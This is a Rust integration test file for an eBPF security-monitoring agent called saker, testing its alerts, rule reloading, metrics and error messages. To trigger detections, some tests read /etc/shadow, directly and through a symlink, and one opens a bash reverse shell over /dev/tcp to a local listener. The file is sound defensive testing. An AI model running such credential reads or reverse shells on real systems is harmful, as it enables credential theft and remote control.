//! The agent as a user runs it: alerts within a second, clean ends, clear answers.

#[path = "agent/recording.rs"]
mod recording;

use saker_kernel_tests::agent::{Agent, RULES, binary, exit_of, get, run_agent, sum};
use saker_kernel_tests::program;
use std::collections::BTreeSet;
use std::io::Write;
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Fields of an alert as a reader of the JSON sees them.
fn field<'a>(alert: &'a serde_json::Value, name: &str) -> &'a str {
    alert["output_fields"][name].as_str().unwrap_or("<NA>")
}

/// Asserts that the alert's process is a child of this test, and the test's parents follow.
fn expect_ancestry(alert: &serde_json::Value) {
    let name = |pid: &str| {
        let name = std::fs::read_to_string(format!("/proc/{pid}/comm")).expect("a name");
        name.trim_end().to_owned()
    };
    let parent_of = |pid: &str| {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("a status");
        let parent = status.lines().find_map(|line| line.strip_prefix("PPid:"));
        parent.expect("a parent").trim().to_owned()
    };
    // The thread that runs the test has a name of its own; the process has the leader's.
    let test = std::process::id().to_string();
    assert_eq!(field(alert, "proc.pname"), name(&test));
    let parent = parent_of(&test);
    assert_eq!(field(alert, "proc.aname[2]"), name(&parent));
    assert_eq!(field(alert, "proc.aname[3]"), name(&parent_of(&parent)));
}

#[test]
fn reading_the_password_file_raises_an_alert() {
    let mut agent = Agent::start(&["--rules", RULES]);
    let reader = Command::new("cat")
        .arg("/etc/shadow")
        .stdout(Stdio::null())
        .spawn();
    let mut reader = reader.expect("cat starts");
    reader.wait().expect("cat ends");
    let alert = agent.alert("Sensitive file read", |alert| {
        field(alert, "proc.cmdline") == "cat /etc/shadow"
    });
    assert_eq!(alert["priority"], "Warning");
    assert_eq!(alert["source"], "syscall");
    assert_eq!(field(&alert, "fd.name"), "/etc/shadow");
    assert_eq!(field(&alert, "proc.name"), "cat");
    assert_eq!(field(&alert, "user.name"), "root");
    assert_eq!(field(&alert, "container.id"), "host");
    expect_ancestry(&alert);
    agent.end();
}

#[test]
fn a_program_run_from_a_temporary_folder_raises_an_alert() {
    let mut agent = Agent::start(&["--rules", RULES]);
    let folder = tempfile::Builder::new()
        .prefix("saker")
        .tempdir_in("/tmp")
        .expect("a folder");
    let copy = folder.path().join("x");
    std::fs::copy("/bin/ls", &copy).expect("a copy");
    let copy = copy.to_str().expect("text");
    assert!(
        Command::new(copy)
            .stdout(Stdio::null())
            .status()
            .expect("it runs")
            .success()
    );
    let alert = agent.alert("Program run from a temporary directory", |alert| {
        field(alert, "proc.exepath") == copy
    });
    assert_eq!(field(&alert, "proc.name"), "x");
    expect_ancestry(&alert);
    agent.end();
}

#[test]
fn a_reverse_shell_raises_an_alert_with_its_connection() {
    let mut agent = Agent::start(&["--rules", RULES]);
    let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
    let there = listener.local_addr().expect("its address");
    let redirect = format!(
        "exec 0<>/dev/tcp/127.0.0.1/{} 1>&0 2>&0; true",
        there.port()
    );
    let mut shell = Command::new("bash")
        .args(["-c", &redirect])
        .spawn()
        .expect("bash starts");
    let (_connection, from) = listener.accept().expect("the shell connects");
    shell.wait().expect("the shell ends");
    let connection = format!("{from}->{there}");
    let alert = agent.alert("Standard streams on a network connection", |alert| {
        field(alert, "fd.name") == connection
    });
    expect_ancestry(&alert);
    assert_eq!(alert["priority"], "Critical");
    assert_eq!(field(&alert, "proc.name"), "bash");
    agent.end();
}

#[test]
fn a_symbolic_link_hides_nothing() {
    let mut agent = Agent::start(&["--rules", RULES]);
    let folder = tempfile::tempdir().expect("a folder");
    let link = folder.path().join("harmless");
    std::os::unix::fs::symlink("/etc/shadow", &link).expect("a link");
    let status = Command::new("cat")
        .arg(&link)
        .stdout(Stdio::null())
        .status();
    assert!(status.expect("cat runs").success());
    agent.alert("Sensitive file read", |alert| {
        field(alert, "proc.cmdline").contains("harmless")
    });
    agent.end();
}

#[test]
fn an_ended_agent_says_what_it_saw() {
    let agent = Agent::start(&["--rules", RULES]);
    assert!(Command::new("true").status().expect("true runs").success());
    let said = agent.end();
    assert!(said.contains("ready: 17 programs attached, "), "{said}");
    assert!(
        said.contains("summary:") && said.contains("execve"),
        "{said}"
    );
    assert!(said.contains("lost: 0"), "{said}");
}

#[test]
fn a_second_agent_is_told_of_the_first() {
    let agent = Agent::start(&["--rules", RULES]);
    let output = run_agent(&[
        "--rules",
        RULES,
        "--pid-file",
        agent.pid_file(),
        "--metrics",
        "off",
    ]);
    assert_eq!(exit_of(&output), 1);
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(
        said.contains("already runs") && said.contains(&agent.pid().to_string()),
        "{said}"
    );
    agent.end();
}

/// Ids of all BPF programs that the kernel holds.
fn program_ids() -> BTreeSet<u32> {
    let programs = aya::programs::loaded_programs();
    programs
        .filter_map(|program| program.ok().map(|program| program.id()))
        .collect()
}

#[test]
fn a_killed_agent_leaves_no_program() {
    let mut agent = Agent::start(&["--rules", RULES]);
    let holds = agent.program_ids();
    assert!(holds.len() >= 6, "{holds:?}");
    assert!(holds.is_subset(&program_ids()));
    agent.kill();
    let limit = Instant::now() + Duration::from_secs(20);
    while !holds.is_disjoint(&program_ids()) {
        assert!(
            Instant::now() < limit,
            "programs of a killed agent are still there: {holds:?}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn rules_are_loaded_again_and_a_bad_set_is_rejected_whole() {
    const RULE: &str = "- rule: Marked program\n  desc: for the test\n  condition: evt.type = execve \
                        and proc.name = MARK\n  output: seen (parent=%proc.pname)\n  priority: NOTICE\n";
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("rules.yaml");
    std::fs::write(&file, RULE.replace("MARK", "true")).expect("a rules file");
    let path = file.to_str().expect("text").to_owned();
    let mut agent = Agent::start(&["--rules", &path]);
    assert!(Command::new("true").status().expect("true runs").success());
    agent.alert("Marked program", |_| true);

    // A bad set: the old one stays.
    std::fs::write(&file, RULE.replace("proc.name", "proc.nam")).expect("a rules file");
    agent.hang_up();
    agent.wait_for("reload rejected");
    let mark = agent.count("Marked program");
    assert!(Command::new("true").status().expect("true runs").success());
    agent.alert_after("Marked program", mark);

    // A good one: noticed without a signal; the process tree is kept, so the parent is known.
    std::fs::write(&file, RULE.replace("MARK", "uname")).expect("a rules file");
    agent.wait_for("reloaded: 1 rules");
    let mark = agent.count("Marked program");
    assert!(
        Command::new("uname")
            .stdout(Stdio::null())
            .status()
            .expect("it runs")
            .success()
    );
    let alert = agent.alert_after("Marked program", mark);
    assert_ne!(field(&alert, "proc.pname"), "<NA>");
    let said = agent.end();
    assert!(said.contains("did you mean 'proc.name'"), "{said}");
}

#[test]
fn an_agent_that_nobody_listens_to_ends() {
    let agent = Agent::start(&["--rules", RULES]);
    let said = agent.end_by_closing_its_output(|| {
        let status = Command::new("cat")
            .arg("/etc/shadow")
            .stdout(Stdio::null())
            .status();
        assert!(status.expect("cat runs").success());
    });
    assert!(said.contains("standard output is closed"), "{said}");
}

#[test]
fn metrics_are_served_and_add_up() {
    let port = TcpListener::bind("127.0.0.1:0").and_then(|listener| listener.local_addr());
    let address = port.expect("a free port").to_string();
    let agent = Agent::start(&["--rules", RULES, "--metrics", &address]);
    for _ in 0..20 {
        assert!(Command::new("true").status().expect("true runs").success());
    }
    assert!(get(&address, "/readyz").ends_with("ok\n"));
    let text = get(&address, "/metrics");
    for name in [
        "saker_rules_enabled",
        "saker_build_info",
        "saker_processes",
        "saker_containers",
        "saker_events_held",
        "saker_enrichment_wait_seconds_bucket",
    ] {
        assert!(text.contains(name), "{name} is missing:\n{text}");
    }
    // What is in the rings at this moment is emitted and not delivered; a quiet moment comes.
    let limit = Instant::now() + Duration::from_secs(20);
    loop {
        let text = get(&address, "/metrics");
        let [emitted, delivered, lost] = ["emitted", "delivered", "lost"]
            .map(|stage| sum(&text, &format!("saker_events_{stage}_total")));
        assert!(emitted > 0 && delivered > 0);
        if emitted == delivered + lost {
            break;
        }
        assert!(
            Instant::now() < limit,
            "{emitted} emitted, {delivered} delivered, {lost} lost"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(get(&address, "/healthz").ends_with("ok\n"));
    agent.end();
}

#[test]
fn a_malformed_rules_file_is_shown_with_its_place() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("bad.yaml");
    let text = "- rule: Bad\n  desc: a typing error\n  condition: evt.type = open and fd.nam = /etc/passwd\n  output: x\n  priority: NOTICE\n";
    std::fs::write(&file, text).expect("a rules file");
    let output = run_agent(&["--rules", file.to_str().expect("text")]);
    assert_eq!(exit_of(&output), 2);
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(said.contains("bad.yaml:3:34"), "{said}");
    assert!(said.contains("^^^^^^"), "{said}");
    assert!(said.contains("did you mean 'fd.name'"), "{said}");
    std::fs::write(&file, "- rule: [unclosed\n").expect("a rules file");
    let output = run_agent(&["--rules", file.to_str().expect("text")]);
    assert_eq!(exit_of(&output), 2);
    assert!(String::from_utf8_lossy(&output.stderr).contains("bad.yaml:"));
}

#[test]
fn what_cannot_be_read_is_named() {
    let output = run_agent(&["--rules", "/nonexistent/rules.yaml"]);
    assert_eq!(exit_of(&output), 2);
    assert!(String::from_utf8_lossy(&output.stderr).contains("/nonexistent/rules.yaml"));
    let mut config = tempfile::NamedTempFile::new().expect("a file");
    writeln!(config, "prioritty: high").expect("written");
    let output = run_agent(&[
        "--rules",
        RULES,
        "--config",
        config.path().to_str().expect("text"),
    ]);
    assert_eq!(exit_of(&output), 2);
    assert!(String::from_utf8_lossy(&output.stderr).contains("prioritty"));
}

#[test]
fn without_privilege_it_says_what_is_missing() {
    use std::os::unix::process::CommandExt;
    let folder = tempfile::tempdir().expect("a folder");
    // Someone who owns nothing here.
    let nobody = 65_534;
    std::os::unix::fs::chown(folder.path(), Some(nobody), None).expect("their folder");
    let copy = folder.path().join("saker");
    std::fs::copy(binary(), &copy).expect("a copy they may run");
    let rules = folder.path().join("rules.yaml");
    std::fs::copy(format!("{RULES}/00-macros.yaml"), &rules).expect("rules they may read");
    for path in [&copy, &rules] {
        std::os::unix::fs::chown(path, Some(nobody), None).expect("their file");
    }
    let output = Command::new(&copy)
        .args(["run", "--rules"])
        .arg(&rules)
        .uid(nobody)
        .gid(nobody)
        .output()
        .expect("it runs");
    assert_eq!(exit_of(&output), 1);
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(said.contains("CAP_BPF") && said.contains("root"), "{said}");
}

#[test]
fn the_doctor_finds_this_host_fit() {
    let output = Command::new(binary())
        .args(["doctor", "--output", "json"])
        .output();
    let output = output.expect("it runs");
    assert_eq!(
        exit_of(&output),
        0,
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
    let findings: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    let subjects: Vec<&str> = findings
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|finding| finding["subject"].as_str())
        .collect();
    for subject in [
        "kernel",
        "kernel types (BTF)",
        "lockdown",
        "kernel programs",
        "attach kinds",
        "cgroup v2",
        "io_uring",
        "container runtime",
    ] {
        assert!(subjects.contains(&subject), "{subjects:?}");
    }
    // The program that the scenarios use is there too: both halves of these tests are built.
    assert!(program().is_file());
}
